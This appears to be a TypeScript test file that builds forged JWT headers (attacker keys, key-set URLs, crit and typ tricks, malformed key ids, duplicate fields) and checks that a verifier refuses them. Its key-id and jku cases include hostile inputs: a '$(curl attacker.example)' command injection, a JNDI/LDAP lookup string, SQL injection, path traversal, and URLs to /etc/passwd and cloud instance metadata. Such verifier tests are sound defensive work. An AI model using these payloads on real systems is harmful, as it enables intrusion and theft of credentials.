/** Headers that bring their own key, their own place to look for one, or their own rules for reading the token. */
import { base64url, signTexts, tokenOf } from '../identity/tokens.ts';
import { type Attack, goodPayload, harmless, type Party, refused, refusedUnasked } from './attack.ts';

export const forgedHeaders = (who: Party): readonly Attack[] => [
  ...keysOfTheSender(who),
  ...rulesOfTheSender(who),
  ...keyIds(who),
  ...saidTwice(who),
];

const keysOfTheSender = ({ ed, attacker, attackerRsa, trap }: Party): readonly Attack[] => [
  ...Object.entries({
    'jwk, which verifies the token': { jwk: attacker.jwk },
    'jwk of null': { jwk: null },
    'jku to a key set that verifies the token': { jku: `${trap}/jwks.json` },
    'jku to a file': { jku: 'file:///etc/passwd' },
    'jku to instance metadata': { jku: 'http://169.254.169.254/latest/meta-data/' },
    'jku to the very key set of the issuer': { jku: 'https://issuer.example/.well-known/jwks.json' },
    'x5u to a certificate': { x5u: `${trap}/cert.pem` },
    'x5c, a certificate of its own': { x5c: ['MIIBszCCAVmgAwIBAgIU'] },
    'jwk, jku, x5u and x5c': { jwk: attacker.jwk, jku: trap, x5u: trap, x5c: [] },
  }).flatMap(([why, header]) => [
    refusedUnasked(`${why}, by the attacker`, tokenOf(attacker, { header }), 'header_forbidden'),
    refusedUnasked(`${why}, by the issuer`, tokenOf(ed, { header }), 'header_forbidden'),
  ]),
  refusedUnasked('jku written with an escape', escaped(attacker, 'j\\u006bu', trap), 'header_forbidden'),
  refused('JKU in capitals, which is no parameter', tokenOf(attacker, { header: { JKU: trap } }), 'signature_bad'),
  refused(
    'x5t of its own, which is no key',
    tokenOf(attackerRsa, { header: { x5t: 'AA', 'x5t#S256': 'AA' } }),
    'signature_bad',
  ),
  refused('a URL for a key id', tokenOf(attacker, { header: { kid: `${trap}/jwks.json` } }), 'key_unknown'),
  refusedUnasked('an issuer of its own', tokenOf(attacker, { claims: { iss: trap } }), 'issuer_unknown'),
  refused('jku inside the prototype', prototyped(attacker, { jku: trap }), 'signature_bad'),
];

const rulesOfTheSender = ({ ed }: Party): readonly Attack[] => [
  ...Object.entries({
    'crit with a name everybody knows': { crit: ['exp'] },
    'crit with a name nobody knows': { crit: ['bork'], bork: true },
    'crit of alg': { crit: ['alg'] },
    'an empty crit': { crit: [] },
    'crit of null': { crit: null },
    'crit of text': { crit: 'exp' },
    'b64 of false, its crit said': { b64: false, crit: ['b64'] },
    'b64 of false, its crit not said': { b64: false },
    'b64 of true': { b64: true },
    'zip of DEFLATE': { zip: 'DEF' },
    'zip of nothing': { zip: null },
  }).map(([why, header]) => refusedUnasked(why, tokenOf(ed, { header }), 'header_forbidden')),
  refusedUnasked('b64 of false, the payload as it is', unencoded(ed, { b64: false }), 'token_malformed'),
  // A content type makes nobody read the payload otherwise.
  harmless('cty of JWT over claims', tokenOf(ed, { header: { cty: 'JWT' } })),
  refusedUnasked('a token in a token', nested(ed), 'token_malformed'),
  harmless('typ of an access token', tokenOf(ed, { header: { typ: 'at+jwt' } })),
  ...Object.entries({
    'typ of a logout token': 'logout+jwt',
    'typ of a security event': 'secevent+jwt',
    'typ of a proof of possession': 'dpop+jwt',
    'typ of nothing': null,
    'typ of a list': ['JWT'],
  }).map(([why, typ]) => refusedUnasked(why, tokenOf(ed, { header: { typ } }), 'token_use_wrong')),
  harmless('header parameters nobody reads', tokenOf(ed, { header: { roles: ['owner'], epk: {}, enc: 'A256GCM' } })),
];

const keyIds = ({ rsa, ed }: Party): readonly Attack[] => [
  ...Object.entries({
    'a path': '../../../../dev/null',
    'a path with a NUL': 'ed\u0000.pem',
    SQL: "' UNION SELECT 'AA' --",
    'a command': '$(curl attacker.example)',
    'a line break': 'ed\n',
    'a format': '%s%n%x',
    'a template': ['$', '{jndi:ldap://attacker.example/x}'].join(''),
    __proto__: '__proto__',
    constructor: 'constructor',
    toString: 'toString',
    length: 'length',
    'a number of the list': '0',
    'a space before it': ' ed',
    'another case': 'ED',
    'letters that look the same': 'еd',
    'half a character': '\ud83d',
    '256 characters': 'k'.repeat(256),
  }).map(([why, kid]) => refused(`a key id of ${why}`, tokenOf(ed, { header: { kid } }), 'key_unknown')),
  refusedUnasked('a key id of 257 characters', tokenOf(ed, { header: { kid: 'k'.repeat(257) } }), 'key_unknown'),
  refusedUnasked('a key id of 64 KB', tokenOf(ed, { header: { kid: 'k'.repeat(64 * 1024) } }), 'key_unknown'),
  refusedUnasked('a key id of 64 KB of paths', tokenOf(ed, { header: { kid: '../'.repeat(22_000) } }), 'key_unknown'),
  refusedUnasked('an empty key id', tokenOf(ed, { header: { kid: '' } }), 'key_unknown'),
  refusedUnasked('no key id', tokenOf(ed, { header: { kid: undefined } }), 'key_unknown'),
  ...Object.entries({ null: null, 'a number': 0, 'a list': ['ed'], 'an object': { kid: 'ed' }, true: true }).map(
    ([why, kid]) => refusedUnasked(`a key id of ${why}`, tokenOf(ed, { header: { kid } }), 'token_malformed'),
  ),
  refused('the id of a key of another type', tokenOf(rsa, { header: { kid: 'ed' } }), 'key_unfit'),
];

/** `JSON.parse` keeps the last of two: so do signature and rules, since there is one reading. */
const saidTwice = ({ ed, attacker, trap }: Party): readonly Attack[] => [
  refusedUnasked(
    'alg twice, none last',
    signTexts(ed, '{"alg":"EdDSA","kid":"ed","alg":"none"}', goodPayload),
    'signature_bad',
  ),
  harmless('alg twice, none first', signTexts(ed, '{"alg":"none","kid":"ed","alg":"EdDSA"}', goodPayload)),
  refused(
    'kid twice, an unknown one last',
    signTexts(ed, '{"alg":"EdDSA","kid":"ed","kid":"x"}', goodPayload),
    'key_unknown',
  ),
  harmless('kid twice, an unknown one first', signTexts(ed, '{"alg":"EdDSA","kid":"x","kid":"ed"}', goodPayload)),
  refusedUnasked(
    'jku twice, null last',
    signTexts(attacker, `{"alg":"EdDSA","kid":"ed","jku":"${trap}","jku":null}`, goodPayload),
    'header_forbidden',
  ),
];

const escaped = (key: Party['ed'], name: string, value: string): string =>
  signTexts(key, `{"alg":"EdDSA","kid":"ed","${name}":${JSON.stringify(value)}}`, goodPayload);
const prototyped = (key: Party['ed'], header: object): string =>
  signTexts(key, `{"alg":"EdDSA","kid":"ed","__proto__":${JSON.stringify(header)}}`, goodPayload);
const unencoded = (key: Party['ed'], header: Record<string, unknown>): string => {
  const [, , signature] = tokenOf(key, { header }).split('.');
  return `${base64url(JSON.stringify({ alg: 'EdDSA', kid: 'ed', ...header }))}.${goodPayload}.${signature}`;
};
const nested = (key: Party['ed']): string => signTexts(key, '{"alg":"EdDSA","kid":"ed","cty":"JWT"}', tokenOf(key));
